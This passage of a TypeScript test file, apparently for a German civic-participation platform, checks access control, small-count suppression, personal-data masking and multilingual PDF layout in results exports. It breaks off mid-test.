import { unzipSync } from 'fflate';
import { extractText, getDocumentProxy, getResolvedPDFJS } from 'unpdf';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { AggregateDimension, AggregateResult, AggregateTable, Cell } from '../../shared/api/results.ts';
import { findUserByUsername } from '../../server/features/auth/auth.repo.ts';
import { findProcessBySlug } from '../../server/features/processes/processes.repo.ts';
import { countScope, resolveScope } from '../../server/features/results/results.service.ts';
import { buildContribution } from '../factories/contributions.ts';
import { buildResponse } from '../factories/responses.ts';
import { buildUser, TEST_PASSWORD } from '../factories/users.ts';
import { buildTestApp, signIn, type Agent, type TestApp } from '../helpers/app.ts';
import { pdfText, readWorkbook } from '../helpers/exports.ts';

const FORMATS = ['csv', 'xlsx', 'pdf', 'zip'] as const;

/** One text call of the PDF: its page, where it starts, and its glyphs' text from left to right. */
interface PdfRun {
  page: number;
  x: number;
  y: number;
  glyphs: string[];
}

/** Every text call, in drawing order. Text extraction would merge the runs of a line and reorder them by its own guess. */
async function pdfRuns(data: Buffer | Uint8Array): Promise<PdfRun[]> {
  const { OPS } = await getResolvedPDFJS();
  const pdf = await getDocumentProxy(new Uint8Array(data));
  const runs: PdfRun[] = [];
  for (let number = 1; number <= pdf.numPages; number += 1) {
    const { fnArray, argsArray } = await (await pdf.getPage(number)).getOperatorList();
    let [x, y] = [0, 0];
    fnArray.forEach((fn, index) => {
      if (fn === OPS.setTextMatrix) [x, y] = [argsArray[index][0][4], argsArray[index][0][5]];
      if (fn === OPS.showText) {
        const glyphs = (argsArray[index][0] as Array<{ unicode: string } | number | null>).flatMap((glyph) => (glyph && typeof glyph === 'object' ? [glyph.unicode] : []));
        runs.push({ page: number, x, y, glyphs });
      }
    });
  }
  return runs;
}

const ARABIC_LETTER = /(?=\p{L})\p{Script=Arabic}/u;
/** A run's text in reading order: fontkit set the glyphs of an Arabic run right to left. */
const readRun = (run: PdfRun) => (ARABIC_LETTER.test(run.glyphs.join('')) ? [...run.glyphs].reverse() : run.glyphs).join('');

/** The text a person would read in each export format, the ZIP's three files included. */
async function readableText(format: (typeof FORMATS)[number], data: Buffer): Promise<Record<string, string>> {
  if (format === 'csv') return { csv: data.toString('utf8') };
  if (format === 'xlsx') return { xlsx: (await readWorkbook(data)).text };
  if (format === 'pdf') return { pdf: await pdfText(data) };
  const files = unzipSync(new Uint8Array(data));
  // The README and one CSV per count table beside the contributions as CSV, the workbook and the PDF.
  expect(Object.keys(files).filter((name) => !name.startsWith('mitreden-')).sort()).toEqual([
    'README.txt',
    'anzahlen-kanal.csv',
    'anzahlen-stadtbezirk.csv',
    'fragen-nach-stadtbezirk.csv',
    'fragen.csv',
    'handlungsfeld-stadtbezirk.csv',
    'klebepunkte.csv',
  ]);
  const names = Object.keys(files)
    .filter((name) => name.startsWith('mitreden-'))
    .sort();
  expect(names.map((name) => name.split('.').pop())).toEqual(['csv', 'pdf', 'xlsx']);
  const result: Record<string, string> = {};
  for (const name of names) {
    const extension = name.split('.').pop() as 'csv' | 'xlsx' | 'pdf';
    result[`zip/${name}`] = Object.values(await readableText(extension, Buffer.from(files[name]!)))[0]!;
  }
  return result;
}

const shown = (cells: Array<{ key?: string } & Cell>) => Object.fromEntries(cells.map((cell) => [cell.key, cell.count]));

/** No sum in a table may have exactly one suppressed member, or the member could be recomputed. */
function expectNoLoneSuppression(table: AggregateTable) {
  const sizes = table.margins.map((margin) => margin.length);
  sizes.forEach((size, d) => {
    for (let value = 0; value < size; value += 1) {
      const key = table.margins[d]![value]!.key;
      const members = [...table.cells.filter((cell) => cell.keys[d] === key), table.margins[d]![value]!];
      expect(members.filter((cell) => cell.suppressed).length, `${key}`).not.toBe(1);
    }
    expect([...table.margins[d]!, table.total].filter((cell) => cell.suppressed).length).not.toBe(1);
  });
}

describe('results: aggregates and exports for working groups', () => {
  let t: TestApp;
  let admin: Agent;
  let group: Agent;
  const url = (path: string) => `/api/processes/${t.slug}/${path}`;
  const aggregates = async (agent: Agent, query: string): Promise<AggregateResult> => {
    const response = await agent.inject({ method: 'GET', url: url(`aggregates?${query}`) });
    expect(response.statusCode, response.body).toBe(200);
    return response.json();
  };
  const download = (agent: Agent, format: string, query = '') => agent.inject({ method: 'GET', url: url(`exports/${format}${query}`) });

  beforeEach(async () => {
    t = await buildTestApp();
    admin = await signIn(t.app, (await buildUser(t.db, { role: 'admin' })).username, TEST_PASSWORD);
    group = await signIn(t.app, (await buildUser(t.db, { role: 'working_group', fieldsOfAction: ['arbeit'] })).username, TEST_PASSWORD);
  });
  afterEach(() => t.close());

  it('answers 401 without a session and 403 for staff, on aggregates and on every export format', async () => {
    const staff = await signIn(t.app, (await buildUser(t.db, { role: 'staff' })).username, TEST_PASSWORD);
    for (const path of ['aggregates', ...FORMATS.map((format) => `exports/${format}`)]) {
      const anonymous = await t.app.inject({ method: 'GET', url: url(path) });
      expect(anonymous.statusCode, path).toBe(401);
      expect(anonymous.json().error.code).toBe('unauthorized');
      const forbidden = await staff.inject({ method: 'GET', url: url(path) });
      expect(forbidden.statusCode, path).toBe(403);
      expect(forbidden.json().error.code).toBe('forbidden');
    }
  });

  it('gives a working group its own fields only: another field is 403 everywhere, flagged responses are for admins to include', async () => {
    for (const path of ['aggregates?field=freizeit', ...FORMATS.map((format) => `exports/${format}?field=freizeit`)]) {
      const response = await group.inject({ method: 'GET', url: url(path) });
      expect(response.statusCode, path).toBe(403);
      expect(response.json().error.code).toBe('forbidden');
    }
    expect((await group.inject({ method: 'GET', url: url('aggregates?includeFlagged=true') })).statusCode).toBe(403);
    const own = await aggregates(group, 'by=field');
    expect(own.fields).toEqual(['arbeit']);
    expect(own.values[0]!.map((value) => value.label)).toEqual(['Arbeit & Beschäftigung']);
    const admins = await aggregates(admin, 'by=field&field=bildung');
    expect(admins.fields).toEqual(['bildung', 'bildung-schulisch', 'bildung-ausserschulisch']);
  });

  it('rejects unknown dimensions, repeated ones, more than three and an unknown district with 400', async () => {
    for (const query of ['by=wetter', 'by=channel,channel', 'by=field,district,channel,month', 'district=atlantis', 'by=', 'channel=brief']) {
      const response = await admin.inject({ method: 'GET', url: url(`aggregates?${query}`) });
      expect(response.statusCode, query).toBe(400);
    }
  });

  it('suppresses counts under 5, and the next-smallest count in the same margin so the total cannot give it away', async () => {
    const seed = { stall: 7, online: 6, paper: 5, conference: 5, workshop: 2 } as const;
    for (const [channel, n] of Object.entries(seed)) {
      for (let i = 0; i < n; i += 1) buildContribution(t.db, { text: `Arbeit ${channel} ${i}`, channel: channel as keyof typeof seed, fieldsOfAction: ['arbeit'] });
    }
    const result = await aggregates(group, 'by=channel');
    expect(result.threshold).toBe(5);
    expect(result.dimensions).toEqual(['channel']);
    expect(result.values[0]!.map((value) => value.label)).toEqual(['Online-Befragung', 'Marktstand', 'Papierfragebogen', 'Konferenz', 'Arbeitsgruppe']);
    // workshop (2) is under 5; paper (5) is the next-smallest and goes too, else 25 − 7 − 6 − 5 = 7 would reveal workshop's 2.
    expect(shown(result.contributions.margins[0]!)).toEqual({ online: 6, stall: 7, paper: null, conference: 5, workshop: null });
    expect(result.contributions.cells.find((cell) => cell.keys[0] === 'workshop')).toEqual({ keys: ['workshop'], count: null, suppressed: true, reason: 'below_threshold' });
    // Paper's 5 are withheld only for the total's sake: the cell says so, and reads "verdeckt", not "< 5".
    expect(result.contributions.cells.find((cell) => cell.keys[0] === 'paper')).toEqual({ keys: ['paper'], count: null, suppressed: true, reason: 'secondary' });
    expect(result.contributions.total).toEqual({ count: 25, suppressed: false });

    const cross = await aggregates(group, 'by=district,channel');
    expect(cross.values.map((list) => list.length)).toEqual([8, 5]);
    expect(cross.contributions.cells).toHaveLength(40);
    expectNoLoneSuppression(cross.contributions);
    expect(cross.contributions.cells.every((cell) => (cell.suppressed ? cell.count === null : cell.count! >= 5))).toBe(true);
    // All 25 are from Gronau (bezirk-2): its row and the channel margins tell the same as above.
    expect(shown(cross.contributions.margins[0]!)['bezirk-2']).toBe(25);
  });

  it('counts neither hidden contributions nor those of flagged responses; an admin may include the flagged ones', async () => {
    for (let i = 0; i < 6; i += 1) buildContribution(t.db, { text: `Mehr Jobs ${i}`, fieldsOfAction: ['arbeit'], channel: 'stall' });
    const hidden = buildContribution(t.db, { text: 'Doppelt erfasst', fieldsOfAction: ['arbeit'], channel: 'stall' });
    expect((await admin.inject({ method: 'POST', url: `/api/admin/processes/${t.slug}/contributions/${hidden}/hide`, payload: { version: 1, reason: 'Doppelt' } })).statusCode).toBe(204);
    for (let i = 0; i < 5; i += 1) buildResponse(t.db, { answers: { 'work-idea': `Idee ${i}` } });
    buildResponse(t.db, { answers: { 'work-idea': 'Bot-Text' }, flags: ['too_fast'] });
    buildResponse(t.db, { answers: { 'work-situation': null, 'leisure-situation': 3 } }); // nothing in "arbeit"

    const result = await aggregates(group, 'by=channel');
    expect(shown(result.contributions.margins[0]!)).toMatchObject({ stall: 6, online: 5 });
    expect(result.contributions.total.count).toBe(11);
    expect(shown(result.responses!.margins[0]!)).toMatchObject({ online: 5 });

    const withFlagged = await aggregates(admin, 'by=channel&field=arbeit&includeFlagged=true');
    expect(shown(withFlagged.contributions.margins[0]!)).toMatchObject({ stall: 6, online: 6 });
    expect(withFlagged.responses!.total.count).toBe(6);

    const csv = (await download(group, 'csv')).body;
    expect(csv).not.toContain('Doppelt erfasst');
    expect(csv).not.toContain('Bot-Text');
  });

  it('counts a questionnaire whose only answer in the field is a free text, as the contributions it brought are counted; a hidden text does not count it', async () => {
    // Nothing chosen in "arbeit", only its free text: a new process's field often has nothing else.
    for (let i = 0; i < 6; i += 1) buildResponse(t.db, { answers: { 'work-situation': null, 'work-idea': `Ausbildungsplätze ${i}` } });
    buildResponse(t.db, { answers: { 'work-situation': null, 'leisure-situation': 3 } }); // nothing in "arbeit"
    const result = await aggregates(group, 'by=channel');
    expect(result.contributions.total.count).toBe(6);
    expect(result.responses!.total.count).toBe(6);
    expect(shown(result.responses!.margins[0]!)).toMatchObject({ online: 6 });
    expect((await aggregates(group, 'by=field')).responses!.total.count).toBe(6);

    const hidden = t.db.$client.prepare("select id from contributions where text = 'Ausbildungsplätze 0'").get() as { id: string };
    expect((await admin.inject({ method: 'POST', url: `/api/admin/processes/${t.slug}/contributions/${hidden.id}/hide`, payload: { version: 1, reason: 'Doppelt' } })).statusCode).toBe(204);
    const after = await aggregates(group, 'by=field');
    expect(after.contributions.total.count).toBe(5);
    expect(after.responses!.total.count).toBe(5);
  });

  it('places questionnaires by the self-reported Stadtteil, and has no questionnaire counts where they make no sense', async () => {
    for (let i = 0; i < 5; i += 1) buildResponse(t.db, { stadtteil: 'bensberg' });
    for (let i = 0; i < 6; i += 1) buildResponse(t.db, { stadtteil: 'refrath', channel: 'paper' });
    buildResponse(t.db, { stadtteil: 'outside' });
    const result = await aggregates(group, 'by=district');
    // 12 in all, minus 5 and 6 shown, would leave the one from outside: so the 5 is withheld too.
    expect(shown(result.responses!.margins[0]!)).toMatchObject({ 'bezirk-5': null, 'bezirk-6': 6, outside: null });
    expect(result.responses!.total.count).toBe(12);
    expect(result.values[0]!.find((value) => value.key === 'outside')!.label).toBe('außerhalb der Stadt');
    const filtered = await aggregates(group, 'by=stadtteil&district=bezirk-6&channel=paper');
    expect(filtered.values[0]!.map((value) => value.key)).toEqual(['refrath', 'alt-refrath', 'kippekausen', 'frankenforst', 'lustheide']);
    expect(shown(filtered.responses!.margins[0]!).refrath).toBe(6);
    expect((await aggregates(group, 'by=kind')).responses).toBeNull();
  });

  it('refuses a filter on a place the tables withhold for a smaller count\'s sake: its figures would tell that count', async () => {
    for (let i = 0; i < 7; i += 1) buildResponse(t.db, { stadtteil: 'bensberg', answers: { 'work-situation': 3 } });
    for (let i = 0; i < 6; i += 1) buildResponse(t.db, { stadtteil: 'refrath', answers: { 'work-situation': 4 } });
    for (let i = 0; i < 3; i += 1) buildResponse(t.db, { stadtteil: 'outside', answers: { 'work-situation': 2 } });
    // 16 in all: "außerhalb" (3) is withheld, and Bezirk 6 (6) with it, or 16 − 7 would tell the 3.
    const table = await aggregates(group, 'by=district');
    expect(shown(table.responses!.margins[0]!)).toMatchObject({ 'bezirk-5': 7, 'bezirk-6': null, outside: null });
    expect(table.responses!.total.count).toBe(16);
    // Filtered to Bezirk 6, every figure would add up to 6, and 16 − 7 − 6 = the 3 from outside.
    for (const path of ['aggregates?by=channel&district=bezirk-6', 'results/questions?district=bezirk-6', 'results/questions?stadtteil=refrath', 'results/crosstab?question=work-situation&by=channel&district=bezirk-6', 'exports/csv?district=bezirk-6']) {
      const refused = await group.inject({ method: 'GET', url: url(path) });
      expect(refused.statusCode, path).toBe(422);
      expect(refused.json().error, path).toMatchObject({ code: 'too_few_respondents', details: { threshold: 5, which: 'withheld' } });
    }
    // Bezirk 5 is shown in the table: its filter tells nothing new.
    expect((await group.inject({ method: 'GET', url: url('results/questions?district=bezirk-5') })).statusCode).toBe(200);
    expect((await aggregates(group, 'by=channel&district=bezirk-5')).responses!.total.count).toBe(7);
  });

  it('withholds a Stadtteil where the table by Stadtbezirk beside it would tell the small one next to it: Bezirk 2 less its shown Stadtteile', async () => {
    const voices = (stadtteil: string, n: number) => {
      for (let i = 0; i < n; i += 1) buildContribution(t.db, { text: `Stimme ${i} aus ${stadtteil}`, fieldsOfAction: ['arbeit'], stadtteil, channel: 'stall' });
    };
    // Bezirk 2: Stadtmitte 11, Hebborn 1, Heidkamp 7, Gronau 20 — 39. Bezirk 3 and 5 keep the withheld ones of the city above 4.
    voices('stadtmitte', 11);
    voices('hebborn', 1);
    voices('heidkamp', 7);
    voices('gronau', 20);
    voices('romaney', 4);
    voices('sand', 2);
    voices('bensberg', 10);
    const districts = await aggregates(group, 'by=district');
    expect(districts.contributions.cells.find((cell) => cell.keys[0] === 'bezirk-2')).toMatchObject({ count: 39, suppressed: false });
    const stadtteile = await aggregates(group, 'by=stadtteil');
    const cell = (key: string) => stadtteile.contributions.cells.find((c) => c.keys[0] === key)!;
    expect(cell('hebborn')).toMatchObject({ suppressed: true, reason: 'below_threshold' });
    expect(cell('heidkamp')).toMatchObject({ suppressed: true, reason: 'secondary' });
    const shown = ['stadtmitte', 'hebborn', 'heidkamp', 'gronau'].reduce((sum, key) => sum + (cell(key).count ?? 0), 0);
    expect(39 - shown === 0 || 39 - shown >= 5).toBe(true);
    // The quote browser's total under a Stadtteil would be that count: refused as for a withheld district.
    const filtered = await group.inject({ method: 'GET', url: url('quotes?stadtteil=heidkamp') });
    expect(filtered.statusCode).toBe(422);
    expect(filtered.json().error).toMatchObject({ code: 'too_few_respondents', details: { which: 'withheld' } });
    expect((await group.inject({ method: 'GET', url: url('quotes?stadtteil=gronau') })).statusCode).toBe(200);
    // Nor does the list name Heidkamp: its rows would count it.
    const csv = (await download(group, 'csv')).body;
    expect(csv).not.toContain(';Heidkamp;');
    expect(csv).toContain(';Gronau;');
  });

  it('withholds the total in every table of the same voices where one table must: eight places at „< 5“ beside 32 are 4 each', async () => {
    // 4 from each Stadtbezirk, from outside and from nowhere said, all at the stall: the table by Kanal alone would show 32.
    for (const stadtteil of ['schildgen', 'stadtmitte', 'romaney', 'herkenrath', 'bensberg', 'refrath', 'outside', null]) {
      for (let i = 0; i < 4; i += 1) buildContribution(t.db, { text: `Stimme ${i} aus ${stadtteil}`, fieldsOfAction: ['arbeit'], stadtteil, channel: 'stall' });
    }
    const districts = await aggregates(group, 'by=district');
    expect(districts.contributions.cells.filter((cell) => cell.count !== null)).toEqual([]);
    expect(districts.contributions.total).toMatchObject({ count: null, suppressed: true });
    for (const by of ['channel', 'kind', 'language', 'month', 'field', 'stadtteil', 'district,channel', 'channel,field']) {
      const table = (await aggregates(group, `by=${by}`)).contributions;
      expect(table.total, by).toMatchObject({ count: null, suppressed: true });
      // With the total withheld, the one channel that holds everyone is withheld too: else it would be the total.
      expect(table.cells.filter((cell) => cell.count !== null), by).toEqual([]);
      expectNoLoneSuppression(table);
    }
    // The files say the same: no 32 in the counts by Kanal.
    const zip = unzipSync(new Uint8Array((await download(group, 'zip')).rawPayload));
    const byChannel = new TextDecoder().decode(zip['anzahlen-kanal.csv']);
    expect(byChannel).not.toMatch(/;32(;|\r?$)/m);
    expect(byChannel).toMatch(/^Gesamt;;aus Summen errechenbar;/m);
  });

  it('withholds the total where the table by month must: three months at „< 5“ beside 12, and the table by Stadtbezirk would show the 12', async () => {
    for (const month of ['09', '10', '11']) {
      for (let i = 0; i < 4; i += 1) buildContribution(t.db, { text: `Stimme ${i} im Monat ${month}`, fieldsOfAction: ['arbeit'], stadtteil: 'gronau', channel: 'stall', capturedOn: `2026-${month}-1${i}` });
    }
    const months = (await aggregates(group, 'by=month')).contributions;
    expect(months.cells.map((cell) => cell.count)).toEqual([null, null, null]);
    expect(months.total).toMatchObject({ count: null, suppressed: true });
    const districts = (await aggregates(group, 'by=district')).contributions;
    expect(districts.total).toMatchObject({ count: null, suppressed: true });
    expect(districts.cells.find((cell) => cell.keys[0] === 'bezirk-2')).toMatchObject({ count: null, suppressed: true });
    expectNoLoneSuppression(districts);
  });

  it('withholds a Stadtbezirk in its own table where its Stadtteile at „< 5“ would each be told by it', async () => {
    // Bezirk 2's four Stadtteile hold 4 each: 16 beside four „< 5“ makes each 4.
    for (const stadtteil of ['stadtmitte', 'hebborn', 'heidkamp', 'gronau', 'bensberg', 'bensberg', 'bensberg', 'refrath', 'refrath', 'refrath']) {
      for (let i = 0; i < 4; i += 1) buildContribution(t.db, { text: `Stimme ${i} aus ${stadtteil}`, fieldsOfAction: ['arbeit'], stadtteil, channel: 'stall' });
    }
    const stadtteile = (await aggregates(group, 'by=stadtteil')).contributions;
    for (const key of ['stadtmitte', 'hebborn', 'heidkamp', 'gronau']) expect(stadtteile.cells.find((cell) => cell.keys[0] === key), key).toMatchObject({ suppressed: true, reason: 'below_threshold' });
    const districts = (await aggregates(group, 'by=district')).contributions;
    expect(districts.cells.find((cell) => cell.keys[0] === 'bezirk-2')).toMatchObject({ count: null, suppressed: true, reason: 'secondary' });
    expect(districts.total).toMatchObject({ count: 40, suppressed: false });
    expectNoLoneSuppression(districts);
    for (const by of ['district,channel', 'district,field']) expect((await aggregates(group, `by=${by}`)).contributions.margins[0]!.find((cell) => cell.key === 'bezirk-2'), by).toMatchObject({ suppressed: true });
  });

  it('counts a table by some of the columns of a table read before as that table added up: the same counts as read anew', async () => {
    // A filter along two dimensions is checked against the tables by both and by each (`refuseWithheld`): those by each add the first up.
    const places = ['gronau', 'refrath', 'bensberg', 'outside', null] as const;
    const channels = ['stall', 'conference', 'workshop'] as const;
    const languages = ['de', 'tr', 'ar'] as const;
    for (let i = 0; i < 60; i += 1) {
      buildContribution(t.db, {
        channel: channels[i % 3],
        language: languages[(i * 7) % 3],
        stadtteil: places[(i * 5) % 5],
        capturedOn: `2026-${String(9 + (i % 3)).padStart(2, '0')}-1${i % 10}`,
        fieldsOfAction: i % 4 === 0 ? ['arbeit', 'bildung'] : ['arbeit'],
      });
      if (i % 2 === 0) buildResponse(t.db, { stadtteil: places[(i * 3) % 4]!, channel: i % 6 === 0 ? 'paper' : 'online', language: languages[i % 3], submittedOn: `2026-1${i % 2}-0${1 + (i % 9)}` });
    }
    const process = findProcessBySlug(t.db, t.slug)!;
    const user = findUserByUsername(t.db, (await buildUser(t.db, { role: 'admin' })).username)!;
    const fresh = () => resolveScope(t.db, process, user, {});
    const tables: AggregateDimension[][] = [['district', 'channel', 'language'], ['district', 'field'], ['month', 'channel'], ['stadtteil', 'language']];
    for (const wide of tables) {
      const scope = fresh();
      countScope(t.db, scope, wide);
      if (wide.includes('field')) countScope(t.db, scope, wide);
      for (let subset = 1; subset < (1 << wide.length) - 1; subset += 1) {
        const by = wide.filter((_, index) => subset & (1 << index));
        expect(countScope(t.db, scope, by), JSON.stringify([wide, by])).toEqual(countScope(t.db, fresh(), by));
      }
    }
  });

  it('breaks down by month, never by day, from the first month to the last', async () => {
    for (let i = 0; i < 5; i += 1) buildContribution(t.db, { text: `November ${i}`, fieldsOfAction: ['arbeit'], capturedOn: '2026-11-03' });
    buildContribution(t.db, { text: 'Januar', fieldsOfAction: ['arbeit'], capturedOn: '2027-01-15' });
    const result = await aggregates(group, 'by=month');
    expect(result.values[0]!.map((value) => value.key)).toEqual(['2026-11', '2026-12', '2027-01']);
    expect(JSON.stringify(result)).not.toMatch(/\d{4}-\d{2}-\d{2}/);
  });

  it('streams every format as a download with its content type and file name', async () => {
    buildContribution(t.db, { text: 'Mehr Ausbildungsplätze.', fieldsOfAction: ['arbeit'] });
    const expected = {
      csv: 'text/csv; charset=utf-8',
      xlsx: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
      pdf: 'application/pdf',
      zip: 'application/zip',
    };
    for (const format of FORMATS) {
      const response = await download(group, format, '?field=arbeit');
      expect(response.statusCode, format).toBe(200);
      expect(response.headers['content-type']).toBe(expected[format]);
      expect(response.headers['content-disposition']).toMatch(new RegExp(`^attachment; filename="mitreden-integrationskonzept-arbeit-\\d{4}-\\d{2}-\\d{2}\\.${format}"$`));
      expect(response.headers['cache-control']).toBe('no-store');
    }
    // Without a chosen field the name says whose fields the file holds: a working group's own, every field only for whoever sees them all.
    expect((await download(group, 'csv')).headers['content-disposition']).toMatch(/filename="mitreden-integrationskonzept-arbeit-\d{4}-\d{2}-\d{2}\.csv"/);
    expect((await download(admin, 'csv')).headers['content-disposition']).toContain('-alle-handlungsfelder-');
    expect((await download(group, 'docx')).statusCode).toBe(400);
  });

  it('masks personal data in every export format and in the working-group view, and never hands out the original text', async () => {
    const secrets = ['aylin.k@example.de', '0176 12345678', '+90 532 123 45 67', 'DE89 3704 0044 0532 0130 00', 'Hauptstraße 12', 'Aylin Kaya'];
    const original =
      'Ruft mich an: 0176 12345678 oder in Izmir +90 532 123 45 67, schreibt an aylin.k@example.de, ich wohne Hauptstraße 12. ' +
      'Spenden an DE89 3704 0044 0532 0130 00. Gruß, Aylin Kaya';
    const id = buildContribution(t.db, { text: original, fieldsOfAction: ['arbeit'] });
    // A moderator masks the name by hand.
    const masked = (t.db.$client.prepare('select masked_text from contributions where id = ?').get(id) as { masked_text: string }).masked_text;
    const start = masked.indexOf('Aylin Kaya');
    expect((await admin.inject({ method: 'POST', url: `/api/admin/processes/${t.slug}/contributions/${id}/mask`, payload: { version: 1, ranges: [{ start, end: start + 10 }] } })).statusCode).toBe(204);
    buildContribution(t.db, { text: 'Нужны курсы немецкого языка вечером.', language: 'ru', fieldsOfAction: ['arbeit'] });
    buildContribution(t.db, { text: 'نحتاج إلى دورات لغة في المساء.', language: 'ar', fieldsOfAction: ['arbeit'] });
    buildContribution(t.db, { text: 'Akşam kursları çok iyi olur, dziękuję!', language: 'tr', fieldsOfAction: ['arbeit'] });

    const view = await group.inject({ method: 'GET', url: url('contributions?field=arbeit') });
    const texts: Record<string, string> = { view: view.body };
    for (const format of FORMATS) {
      const response = await download(group, format, '?field=arbeit');
      expect(response.statusCode, format).toBe(200);
      Object.assign(texts, await readableText(format, response.rawPayload));
    }
    expect(Object.keys(texts)).toHaveLength(7);
    for (const [where, text] of Object.entries(texts)) {
      // A PDF breaks lines where it likes; compare with whitespace folded, and with none at all.
      const folded = text.replace(/\s+/g, ' ');
      const bare = text.replace(/\s+/g, '');
      for (const secret of secrets) {
        expect(folded, `${where}: ${secret}`).not.toContain(secret);
        expect(bare, `${where}: ${secret}`).not.toContain(secret.replace(/\s+/g, ''));
      }
      for (const fragment of ['12345678', 'example.de', '0532', 'Kaya']) expect(bare, `${where}: ${fragment}`).not.toContain(fragment);
      for (const token of ['[Telefon entfernt]', '[E-Mail entfernt]', '[IBAN entfernt]', '[Adresse entfernt]', '[Name entfernt]']) {
        expect(folded, `${where}: ${token}`).toContain(token);
      }
      expect(folded, where).toContain('курсы немецкого');
      expect(folded, where).toContain('Akşam kursları çok iyi olur, dziękuję!');
    }
  });

  it('sets an Arabic quote with a masked phone number and a number in the visual order of the bidirectional algorithm', async () => {
    buildContribution(t.db, { text: 'اتصلوا بي على 0176 12345678 بعد الساعة 18 من فضلكم', language: 'ar', fieldsOfAction: ['arbeit'] });
    const runs = await pdfRuns((await download(group, 'pdf', '?field=arbeit')).rawPayload);
    const placeholder = runs.find((run) => run.glyphs.join('').includes('Telefon entfernt'))!;
    expect(placeholder).toBeDefined();
    expect(placeholder.glyphs.join('').trim()).toBe('[Telefon entfernt]');
    const line = runs.filter((run) => run.page === placeholder.page && run.y === placeholder.y).sort((a, b) => a.x - b.x);
    // Read from the right: „اتصلوا بي على [Telefon entfernt] بعد الساعة 18 من فضلكم“.
    const at = (word: string) => line.findIndex((run) => readRun(run).replace(/[„“]/g, '').trim() === word);
    const order = ['فضلكم', 'من', '18', 'الساعة', 'بعد', '[Telefon entfernt]', 'على', 'بي', 'اتصلوا'].map(at);
    expect(order.every((index) => index >= 0), JSON.stringify(line.map(readRun))).toBe(true);
    expect(order).toEqual([...order].sort((a, b) => a - b));
    expect(new Set(order).size).toBe(order.length);
    expect(line.at(-1)!.glyphs.at(-1)).toBe('„');
    expect(line[0]!.glyphs[0]).toBe('“');
  });

  it('sets a German quote as it is: one run a line from the left margin, words and spaces intact', async () => {
    const text = 'Wir brauchen mehr Sprachkurse am Abend, damit Berufstätige nach der Arbeit teilnehmen können, und während der Kurse eine Kinderbetreuung im selben Haus.';
    buildContribution(t.db, { text, fieldsOfAction: ['arbeit'] });
    const runs = await pdfRuns((await download(group, 'pdf', '?field=arbeit')).rawPayload);
    const first = runs.findIndex((run) => run.glyphs.join('').startsWith('„Wir'));
    const last = runs.findIndex((run) => run.glyphs.join('').endsWith('Haus.“'));
    expect(first).toBeGreaterThanOrEqual(0);
    const lines = runs.slice(first, last + 1);
    expect(lines.length).toBeGreaterThan(1);
    expect(lines.every((run) => run.x === 56)).toBe(true);
    expect(new Set(lines.map((run) => run.y)).size).toBe(lines.length);
    // pdfkit's own wrapping, as before, broke at the same places (and kept a line's trailing space).
    expect(lines.map((run) => run.glyphs.join('').trimEnd()).join(' ')).toBe(`„${text}“`);
  });

  it('wraps a long Arabic quote over lines and onto the next page without losing or doubling a word, pages still numbered', async () => {
    const vocabulary = ['أتمنى', 'دورات', 'لغة', 'مجانية', 'للأمهات', 'مع', 'رعاية', 'للأطفال', 'في', 'نفس', 'المبنى', 'مساء', 'العمل', 'لا', 'يكفي', 'الوقت'];
    const words: string[] = [];
    for (let i = 0; words.join(' ').length < 3900; i += 1) words.push(vocabulary[(i * 7 + Math.floor(i / 16)) % vocabulary.length]!);
    // Short voices from an earlier month first, so the long one starts halfway down a page.
    for (let i = 0; i < 15; i += 1) buildContribution(t.db, { text: `Kurzer Beitrag ${i}.`, fieldsOfAction: ['arbeit'], capturedOn: '2026-10-01' });
    buildContribution(t.db, { text: words.join(' '), language: 'ar', fieldsOfAction: ['arbeit'] });
    const data = (await download(group, 'pdf', '?field=arbeit')).rawPayload;
    const arabic = (await pdfRuns(data)).filter((run) => ARABIC_LETTER.test(run.glyphs.join('')));
    expect(new Set(arabic.map((run) => run.page)).size).toBeGreaterThan(1);
    expect(new Set(arabic.map((run) => `${run.page}/${run.y}`)).size).toBeGreaterThan(30);
    const drawn = arabic.flatMap((run) => readRun(run).replace(/[„“]/g, '').split(' ')).filter(Boolean);
    expect(drawn.sort()).toEqual([...words].sort());
    const { text: pages } = await extractText(await getDocumentProxy(new Uint8Array(data)));
    pages.forEach((page, index) => expect(page).toContain(`Seite ${index + 1} ·`));
  });

  it('prints the month and a place no finer than the working-group view allows', async () => {
    for (let i = 0; i < 5; i += 1) buildContribution(t.db, { text: `Idee ${i} aus Bensberg`, fieldsOfAction: ['arbeit'], stadtteil: 'bensberg', capturedOn: '2026-11-20' });
    // Bezirk 5 has five more voices in Stadtteile of fewer than five: named by the district, they are too many to point at one.
    buildContribution(t.db, { text: 'Moitzfeld allein', fieldsOfAction: ['arbeit'], stadtteil: 'moitzfeld', capturedOn: '2026-11-21' });
    for (const stadtteil of ['kaule', 'kaule', 'bockenberg', 'bockenberg']) buildContribution(t.db, { text: `Stimme aus ${stadtteil}`, fieldsOfAction: ['arbeit'], stadtteil });
    buildContribution(t.db, { text: 'Schildgen allein', fieldsOfAction: ['arbeit'], stadtteil: 'schildgen' });
    // Five without a place: the table by Stadtbezirk withholds them beside Schildgen's one, so it can show Bezirk 5.
    for (let i = 0; i < 5; i += 1) buildContribution(t.db, { text: `Ohne Ort ${i}`, fieldsOfAction: ['arbeit'], stadtteil: null });
    const csv = (await download(group, 'csv')).body;
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    const lines = csv.slice(1).split('\r\n');
    expect(lines[0]).toBe('Monat;Handlungsfeld;Art;Kanal;Sprache;Ort;Beitrag;Deutsche Fassung;Zitat-Nr.');
    expect(lines.find((line) => line.includes('Idee 0 aus'))).toMatch(/^2026-11;Arbeit & Beschäftigung;ohne Art \(nicht zugeordnet\);Marktstand;Deutsch;Bensberg;Idee 0 aus Bensberg;;B-\d+$/);
    expect(lines.find((line) => line.includes('Moitzfeld allein'))!.split(';')[5]).toBe('Bezirk 5');
    expect(lines.find((line) => line.includes('Schildgen allein'))!.split(';')[5]).toBe('');
    expect(csv).not.toMatch(/2026-11-2\d/);
    // The PDF names the month in words, as the quote browser does („November 2026“, not „2026-11“), and never the day.
    const pdf = (await pdfText((await download(group, 'pdf')).rawPayload)).replace(/\s+/g, ' ');
    expect(pdf).toMatch(/B-\d+ · November 2026 · ohne Art \(nicht zugeordnet\) · Marktstand · Bensberg · Deutsch/);
    expect(pdf).not.toMatch(/B-\d+ · 2026-\d\d/);
    expect(pdf).not.toMatch(/2[01]\.11\.2026/);
